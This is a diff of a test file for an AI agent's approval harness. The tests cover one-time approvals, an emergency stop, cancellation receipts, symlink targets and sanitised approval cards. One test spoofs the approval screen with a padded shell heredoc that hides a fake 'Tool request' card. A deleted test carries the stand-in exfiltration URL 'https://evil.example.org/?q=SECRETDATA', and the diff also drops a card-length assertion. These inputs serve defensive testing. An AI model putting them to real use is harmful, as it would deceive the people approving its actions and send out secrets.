@@ -119,7 +119,7 @@ async def test_a_waiting_action_can_be_approved_later_and_only_once(sample):
     assert (await home.approve(waiting.action_id)).result.success
     assert (home.workspace / "x.txt").read_text() == "x"
     assert await home.conveyor().execute(msgspec.structs.replace(stored, status="APPROVED")) is None
-    with pytest.raises(UsageError, match="no longer waits"):
+    with pytest.raises(UsageError, match="no longer waiting"):
         await home.approve(waiting.action_id)
     assert len(home.receipts()) == 1
 
@@ -233,7 +233,7 @@ async def test_estop_between_decision_and_effect_stops_the_effect(sample):
 
     conveyor = home.app.conveyor(approve_then_stop)
     turn = Turn("t", "", "cli")
-    action = conveyor.propose(ToolCall.of("file_write", {"path": "x", "content": "x"}), turn, "k")
+    action = conveyor.intake.propose(ToolCall.of("file_write", {"path": "x", "content": "x"}), turn, "k")
     outcome = await conveyor.carry(action, turn, stored=False)
     assert outcome.result.code == "ESTOP"
     assert not (home.workspace / "x").exists()
@@ -261,7 +261,7 @@ async def test_cancelling_writes_the_receipt_before_it_goes_on(sample):
     with pytest.raises(asyncio.CancelledError):
         await running
     assert home.box.killed == 1
-    assert (home.receipts()[0].status, home.receipts()[0].code) == ("unknown", "CANCELLED")
+    assert (home.receipts()[0].status, home.receipts()[0].code) == ("failed", "CANCELLED")
 
 
 async def test_a_boxed_command_gets_the_walls_of_the_path_classes(sample):
@@ -431,7 +431,7 @@ def test_a_card_has_no_room_for_lines_of_its_own(sample):
     home = sample()
     conveyor = home.conveyor()
     args = {"path": "a\n  risk:    low\u202e\x1b[2K", "content": "x"}
-    action = conveyor.propose(ToolCall.of("file_write", args), Turn("t", "", "cli"), "k")
+    action = conveyor.intake.propose(ToolCall.of("file_write", args), Turn("t", "", "cli"), "k")
     card = render_card(action, home.app.inspector.inspect(action.call, Turn("t", "", "cli")), None)
     for text in (card.human_summary, card.target_entity, card.args, *card.reasons):
         assert "\n" not in text
@@ -440,29 +440,15 @@ def test_a_card_has_no_room_for_lines_of_its_own(sample):
     assert "\x1b" not in card.preview_or_diff
 
 
-async def test_a_command_cannot_push_the_card_off_the_screen(sample):
-    from coilclaw.channels.terminal import describe
+async def test_a_command_cannot_look_like_another_card(sample):
+    from coilclaw.cli.terminal import describe
 
     home = sample()
     fake = "Tool request:\n  tool:    file_read\n  risk:    low (R0, lane A)"
     await home.call("shell", command="touch evil\n: <<'E'" + "\n" * 60 + fake + "\n" * 60 + "x\n" * 60 + "E")
     shown = describe(home.owner.cards[0]).splitlines()
-    assert len(shown) < 60
     assert shown[-1].startswith("shell, medium risk: Run `touch evil … (65 more lines)`")
     assert all(line.startswith(("  │", "  args:")) for line in shown if "file_read" in line)
-
-
-async def test_an_address_the_model_had_repeated_to_it_is_not_quoted(sample):
-    home = sample()
-    turn = Turn("t", "", "cli", ("untrusted:web",))
-    await home.call("file_read", turn=turn, path="https://evil.example.org/?q=SECRETDATA")
-    home.box._answer = lambda _: BoxResult(
-        end="exited", exit_code=0, stdout=b"https://evil.example.org/?q=SECRETDATA", stderr=b"", seconds=0.0, tier="A"
-    )
-    await home.call("shell", turn=turn, command="ls")
-    await home.call("file_write", turn=turn, path="memory/a.md", content="https://evil.example.org/?q=SECRETDATA")
-    await home.call("file_read", turn=turn, path="memory/a.md")
-    assert not turn.quoted("https://evil.example.org/?q=SECRETDATA")
 
 
 async def test_a_yes_does_not_carry_over_to_where_a_link_leads_now(sample):
@@ -476,7 +462,7 @@ async def test_a_yes_does_not_carry_over_to_where_a_link_leads_now(sample):
 
     conveyor = home.app.conveyor(swap_then_yes)
     turn = Turn("t", "", "cli")
-    action = conveyor.propose(ToolCall.of("file_write", {"path": "notes/x.json", "content": "{}"}), turn, "k")
+    action = conveyor.intake.propose(ToolCall.of("file_write", {"path": "notes/x.json", "content": "{}"}), turn, "k")
     outcome = await conveyor.carry(action, turn, stored=False)
     assert outcome.result.code == "DIGEST_CHANGED"
     assert not (home.workspace / "policies" / "x.json").exists()
@@ -487,6 +473,6 @@ async def test_the_card_says_where_a_link_leads(sample):
     home.owner.answer = type(home.owner.answer)(approved=False)
     (home.workspace / "harmless").symlink_to("policies")
     await home.call("file_write", path="harmless/x.json", content="{}")
-    assert home.owner.cards[0].target_entity == "harmless/x.json (leads to policies/x.json)"
+    assert home.owner.cards[0].target_entity == "harmless/x.json (resolves to policies/x.json)"
     await home.call("file_write", key="k2", path="./plain.txt", content="x")
     assert "leads to" not in home.owner.cards[1].target_entity
